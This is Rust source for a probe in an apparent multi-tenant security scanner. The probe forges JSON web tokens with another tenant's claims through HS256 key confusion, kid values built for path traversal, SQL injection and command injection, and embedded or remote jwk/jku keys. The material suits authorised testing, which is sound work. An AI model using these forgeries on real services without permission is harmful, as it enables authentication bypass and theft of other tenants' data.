//! Tokens that are signed with a key that anybody has: a published one, one that the token brings, one that it points to.

use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair as _};
use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use http::Method;
use jsonwebtoken::{Algorithm, EncodingKey, crypto};
use partywall_model::{Layer, Severity};
use serde_json::{Map, Value, json};
use url::Url;

use super::jwt::Jwt;
use crate::{
    oracle::{Judged, judge, reading::failed},
    probes::{Probe, Technique, attempt},
    site::{Party, Site},
    tally::Tally,
};

pub(super) static PROBE: Probe = Probe::new(
    "forged-keys",
    Layer::Identity,
    Severity::High,
    "Signs the other tenant's claims with keys that anybody has.",
    include_str!("forged_keys.md"),
    &[
        Technique::new("ID-03", "the published key as a shared secret", Severity::High, |site| {
            Box::pin(attack(site, Keys::Published))
        }),
        Technique::new("ID-04", "a key id that points elsewhere", Severity::High, |site| {
            Box::pin(attack(site, Keys::Pointed))
        }),
        Technique::new("ID-05", "a key that the token brings", Severity::High, |site| {
            Box::pin(attack(site, Keys::Brought))
        }),
    ],
);

/// Whose key signs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Keys {
    Published,
    Pointed,
    Brought,
}

/// How a token is made, and the token.
type Forged = (String, String);

async fn attack(site: &Site, keys: Keys) -> Tally {
    let reading = match attempt::telling(site) {
        Ok(readings) => readings.into_iter().next(),
        Err(tally) => return *tally,
    };
    let mut tally = Tally::default();
    let Some(reading) = reading else { return tally };
    for (attacker, victim) in site.directions() {
        let parse = |party: &Party| party.caller.token().and_then(Jwt::parse);
        let (Some(own), Some(theirs)) = (parse(attacker), parse(victim)) else {
            tally.absent("the tokens are no JSON web tokens");
            continue;
        };
        let forged = match keys {
            Keys::Published => match published(site, &own).await {
                Ok(keys) => keys.iter().flat_map(|key| as_secret(&own, &theirs, key)).collect(),
                Err(why) => {
                    tally.absent(why);
                    continue;
                }
            },
            Keys::Pointed => pointed(&own, &theirs),
            Keys::Brought => brought(site, &own, &theirs),
        };
        attempt::control(&mut tally, site, attacker, reading).await;
        for (how, token) in forged {
            let liar = attacker.caller.with_token(Some(token));
            let exchange = attempt::read(&liar, &reading.what).await;
            if let Judged::Foreign(evidence) = judge(site, &attacker.tenant, reading, &exchange) {
                tally.leak(vec![evidence]);
            } else if exchange.success().is_some_and(|result| attempt::known(reading, result)) {
                let why = format!("a token with the claims of {} and {how} was believed", victim.tenant);
                tally.leak(vec![attempt::shown(site, &exchange, why)]);
            } else if exchange.success().is_some() {
                tally.doubt(format!("a token {how} was answered, but with nothing that a tenant is shown"));
            } else if exchange.replied() {
                tally.held();
            } else {
                tally.doubt(failed(&exchange));
            }
            if tally.has_leaked() {
                return tally;
            }
        }
    }
    tally
}

/// The victim's claims under a header, signed with a key.
fn sign(
    header: &Map<String, Value>,
    claims: &Map<String, Value>,
    key: &EncodingKey,
    with: Algorithm,
) -> Option<String> {
    let unsigned = Jwt::write(header, claims, "");
    let message = unsigned.strip_suffix('.')?;
    Some(format!("{message}.{}", crypto::sign(message.as_bytes(), key, with).ok()?))
}

fn header(own: &Jwt, algorithm: &str, more: &[(&str, Value)]) -> Map<String, Value> {
    let mut header = own.header.clone();
    header.insert("alg".to_owned(), json!(algorithm));
    for (name, value) in more {
        header.insert((*name).to_owned(), value.clone());
    }
    header
}

/// The keys that the target's issuer publishes, if they lie on this machine or beside the target.
async fn published(site: &Site, own: &Jwt) -> Result<Vec<Value>, String> {
    let Some(nobody) = site.nobody.first() else { return Err("nobody is there to ask for keys".to_owned()) };
    let get = async |url: Url| -> Option<Value> {
        if !near(&site.target.url, &url) {
            return None;
        }
        let exchange = nobody.send(nobody.bare(Method::GET).to(url)).await;
        let reply = exchange.reply().filter(|reply| reply.status == 200)?;
        serde_json::from_slice(&reply.body).ok()
    };
    let path = site.target.url.path().trim_end_matches('/').to_owned();
    let mut issuer = own.claims.get("iss").and_then(Value::as_str).map(str::to_owned);
    for at in [
        format!("/.well-known/oauth-protected-resource{path}"),
        "/.well-known/oauth-protected-resource".into(),
    ] {
        if let Some(metadata) = get(site.target.at(&at)).await {
            let named =
                metadata.pointer("/authorization_servers/0").and_then(Value::as_str).map(str::to_owned);
            issuer = named.or(issuer);
            break;
        }
    }
    let issuer = issuer.and_then(|issuer| issuer.parse::<Url>().ok());
    let issuer =
        issuer.ok_or("neither the target's metadata nor the tokens name an issuer by its address")?;
    let own_path = issuer.path().trim_end_matches('/').to_owned();
    for (before, after) in [
        ("/.well-known/oauth-authorization-server", own_path.as_str()),
        ("/.well-known/openid-configuration", own_path.as_str()),
        (own_path.as_str(), "/.well-known/openid-configuration"),
    ] {
        let mut url = issuer.clone();
        url.set_path(&format!("{before}{after}"));
        let keys =
            get(url).await.and_then(|metadata| metadata.get("jwks_uri")?.as_str()?.parse::<Url>().ok());
        let Some(keys) = keys else { continue };
        if let Some(set) = get(keys).await {
            return Ok(set
                .get("keys")
                .and_then(Value::as_array)
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .take(4)
                .collect());
        }
    }
    Err("the issuer's published keys were not found on this machine or beside the target; others are not asked".to_owned())
}

/// Whether an address is the target's host or this machine: nobody else is asked for anything.
pub(super) fn near(target: &Url, url: &Url) -> bool {
    let here = url.host_str().is_some_and(|host| matches!(host, "localhost" | "127.0.0.1" | "[::1]"));
    matches!(url.scheme(), "http" | "https") && (here || url.host() == target.host())
}

/// The victim's claims under HS256, with a published key in the forms that a library may hand to HMAC.
fn as_secret(own: &Jwt, theirs: &Jwt, key: &Value) -> Vec<Forged> {
    let mut forms = vec![("the key's JSON", key.to_string().into_bytes())];
    if let Some(der) = subject_public_key(key) {
        let text = STANDARD.encode(&der);
        let lines: Vec<String> =
            text.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line).into_owned()).collect();
        let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"));
        forms.push(("the key in PEM with a line break after it", format!("{pem}\n").into_bytes()));
        forms.push(("the key in PEM", pem.into_bytes()));
        forms.push(("the key in DER", der));
    }
    for part in ["x", "n"] {
        if let Some(text) = key.get(part).and_then(Value::as_str) {
            forms.push(("a part of the key", URL_SAFE_NO_PAD.decode(text).unwrap_or_default()));
            forms.push(("the text of a part of the key", text.as_bytes().to_vec()));
        }
    }
    let mut more = Vec::new();
    if let Some(kid) = key.get("kid") {
        more.push(("kid", kid.clone()));
    }
    let header = header(own, "HS256", &more);
    let sign =
        |secret: &[u8]| sign(&header, &theirs.claims, &EncodingKey::from_secret(secret), Algorithm::HS256);
    forms
        .into_iter()
        .filter(|(_, secret)| !secret.is_empty())
        .filter_map(|(how, secret)| Some((format!("{how} as the secret of HS256"), sign(&secret)?)))
        .collect()
}

/// A public key as X.509 writes it (RFC 5280, 4.1.2.7; RFC 8410 for Ed25519).
fn subject_public_key(key: &Value) -> Option<Vec<u8>> {
    let part = |name: &str| URL_SAFE_NO_PAD.decode(key.get(name)?.as_str()?).ok();
    let kind = (key.get("kty")?.as_str()?, key.get("crv").and_then(Value::as_str).unwrap_or_default());
    match kind {
        ("EC", "P-256") => {
            let head = hex::decode("3059301306072a8648ce3d020106082a8648ce3d03010703420004").ok()?;
            Some([head, part("x")?, part("y")?].concat())
        }
        ("OKP", "Ed25519") => Some([hex::decode("302a300506032b6570032100").ok()?, part("x")?].concat()),
        ("RSA", _) => {
            let number = |bytes: Vec<u8>| {
                let high = bytes.first().is_some_and(|byte| byte & 0x80 != 0);
                der(0x02, &if high { [vec![0], bytes].concat() } else { bytes })
            };
            let pair = der(0x30, &[number(part("n")?), number(part("e")?)].concat());
            let algorithm = hex::decode("300d06092a864886f70d0101010500").ok()?;
            Some(der(0x30, &[algorithm, der(0x03, &[vec![0], pair].concat())].concat()))
        }
        _ => None,
    }
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len().to_be_bytes();
    let short: Vec<u8> = length.iter().copied().skip_while(|byte| *byte == 0).collect();
    let mut out = vec![tag];
    match short.as_slice() {
        [] => out.push(0),
        [one] if *one < 0x80 => out.push(*one),
        several => {
            out.push(0x80 | u8::try_from(several.len()).unwrap_or(0));
            out.extend_from_slice(several);
        }
    }
    out.extend_from_slice(content);
    out
}

/// Key ids that a server may open as a file or put into a query, with the secret that it would find there.
fn pointed(own: &Jwt, theirs: &Jwt) -> Vec<Forged> {
    let zero = "AA==";
    [
        ("/dev/null", ""),
        ("../../../../../../../../dev/null", ""),
        ("../../../../../../../../../../proc/sys/kernel/randomize_va_space", "2\n"),
        ("x' UNION SELECT 'partywall' -- ", "partywall"),
        ("x' UNION SELECT 'partywall", "partywall"),
        ("", ""),
        ("x\0", "\0"),
        ("x|echo partywall", "partywall\n"),
        (zero, "\0"),
    ]
    .into_iter()
    .filter_map(|(kid, secret)| {
        let header = header(own, "HS256", &[("kid", json!(kid))]);
        let key = EncodingKey::from_secret(secret.as_bytes());
        Some((format!("the key id {kid:?}"), sign(&header, &theirs.claims, &key, Algorithm::HS256)?))
    })
    .collect()
}

/// Tokens that carry the key of this run, or say where it is. The places are closed ports of this machine.
fn brought(site: &Site, own: &Jwt, theirs: &Jwt) -> Vec<Forged> {
    let Ok(pair) = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING) else { return Vec::new() };
    let Ok(private) = pair.to_pkcs8v1() else { return Vec::new() };
    let key = EncodingKey::from_ec_der(private.as_ref());
    let point = pair.public_key().as_ref();
    let half = |from: usize| URL_SAFE_NO_PAD.encode(point.get(from..from + 32).unwrap_or_default());
    let jwk = json!({"kty": "EC", "crv": "P-256", "x": half(1), "y": half(33), "alg": "ES256", "use": "sig"});
    let data = format!("data:application/json,{}", json!({"keys": [jwk]}));
    let oct = json!({"kty": "oct", "k": URL_SAFE_NO_PAD.encode("partywall")});
    let secret = EncodingKey::from_secret(b"partywall");
    let elliptic =
        |more: &[(&str, Value)]| sign(&header(own, "ES256", more), &theirs.claims, &key, Algorithm::ES256);
    let mut all = vec![
        ("its own key in jwk", elliptic(&[("jwk", jwk.clone())])),
        ("its own key in jwk, under no key id", elliptic(&[("jwk", jwk.clone()), ("kid", Value::Null)])),
        ("its own keys behind jku", elliptic(&[("jku", json!(data))])),
        ("a key of its own", elliptic(&[])),
    ];
    all.push((
        "its own secret in jwk",
        sign(&header(own, "HS256", &[("jwk", oct)]), &theirs.claims, &secret, Algorithm::HS256),
    ));
    // Nothing listens there: who fetches cannot find a key, and may tell of the attempt.
    let mut elsewhere = site.target.url.clone();
    if elsewhere.set_host(Some("127.0.0.1")).is_ok() && elsewhere.set_port(Some(1)).is_ok() {
        for name in ["jku", "x5u"] {
            all.push(("keys behind an address", elliptic(&[(name, json!(elsewhere.as_str()))])));
        }
    }
    all.into_iter().filter_map(|(how, token)| Some((how.to_owned(), token?))).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn public_keys_are_written_as_openssl_writes_them() {
        let key = json!({"kty": "EC", "crv": "P-256", "x": "8tfdUEnT_I7Mlw-5TWhxnM9Kj1k2fA2Tteu-7B5K3ys",
            "y": "rfZBa4Yo23EtHcy3_Sw8L-JBlefhnx_a8ClgXVF5Z2M"});
        let text = STANDARD.encode(subject_public_key(&key).unwrap());
        assert_eq!(
            text,
            "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE8tfdUEnT/I7Mlw+5TWhxnM9Kj1k2fA2Tteu+7B5K3yut9kFrhijbcS0dzLf9LDwv4kGV5+GfH9rwKWBdUXlnYw=="
        );
        assert_eq!(der(2, &[7; 300]).get(..4), Some([2, 0x82, 1, 44].as_slice()));
        let target: Url = "https://mcp.example/mcp".parse().unwrap();
        let far = |text: &str| near(&target, &text.parse().unwrap());
        assert!(
            far("https://mcp.example/jwks") && far("http://127.0.0.1:9/") && !far("https://login.example/")
        );
    }
}
